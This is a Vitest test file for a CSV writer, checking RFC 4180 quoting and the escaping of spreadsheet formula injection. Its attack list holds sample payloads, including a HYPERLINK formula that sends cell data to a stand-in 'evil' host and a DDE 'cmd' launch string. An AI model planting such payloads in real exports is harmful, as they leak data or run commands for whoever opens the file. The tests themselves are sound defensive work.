import { describe, expect, it } from 'vitest'
import { parseCsv } from '../../test/csv-reader.js'
import { csvField, csvRecord, neutralizeFormula } from './csv.js'

/** One record as a reader reads it back. */
const parseRecord = (line: string): string[] => parseCsv(`${line}\r\n`)[0] ?? []

describe('csvField', () => {
  it('writes plain text, numbers and empty values as they are', () => {
    expect(csvField('alice')).toBe('alice')
    expect(csvField(42)).toBe('42')
    expect(csvField(null)).toBe('')
    expect(csvField(undefined)).toBe('')
    expect(csvField('')).toBe('')
    expect(csvField('2026-12-01T06:15:00.000Z')).toBe('2026-12-01T06:15:00.000Z')
  })

  it('quotes fields holding a quote, a comma, CR or LF, and doubles inner quotes (RFC 4180)', () => {
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('line\nbreak')).toBe('"line\nbreak"')
    expect(csvField('line\r\nbreak')).toBe('"line\r\nbreak"')
    expect(csvField('{"a":1,"b":"x"}')).toBe('"{""a"":1,""b"":""x""}"')
  })

  it('neutralizes every OWASP formula start with a leading quote mark', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const field = csvField(`${start}1+2`)
      const cell = parseRecord(field)[0] ?? ''
      expect(cell.startsWith("'"), JSON.stringify(start)).toBe(true)
      expect(cell).toBe(`'${start}1+2`)
    }
  })

  it('an attacker-chosen username or user agent never comes out starting with = or @', () => {
    const attacks = [
      '=HYPERLINK("http://evil/?"&A1,"Click")',
      '@SUM(1)',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '=1+2";=1+2',
      '\t=1+2',
      '\r=1+2',
    ]
    for (const attack of attacks) {
      const field = csvField(attack)
      // Neither the raw text nor the cell a spreadsheet reads after unquoting starts a formula.
      expect(field, attack).not.toMatch(/^[=+\-@\t\r]/)
      const [cell] = parseRecord(field)
      expect(cell, attack).toBe(`'${attack}`)
    }
  })

  it('leaves a formula character inside the text alone', () => {
    expect(neutralizeFormula('a=b')).toBe('a=b')
    expect(neutralizeFormula('alice@example.com')).toBe('alice@example.com')
    expect(neutralizeFormula("'=already")).toBe("'=already")
  })
})

describe('csvRecord', () => {
  it('joins fields with commas and ends with CRLF', () => {
    expect(csvRecord(['a', 1, null, 'b,c'])).toBe('a,1,,"b,c"\r\n')
    expect(csvRecord([])).toBe('\r\n')
  })

  it('reads back field by field, whatever the fields hold', () => {
    const values = ['x', 'a,b', 'q"q', 'multi\nline', '=SUM(A1)', '']
    const line = csvRecord(values)
    expect(line.endsWith('\r\n')).toBe(true)
    expect(parseRecord(line.slice(0, -2))).toEqual([
      'x',
      'a,b',
      'q"q',
      'multi\nline',
      "'=SUM(A1)",
      '',
    ])
  })
})
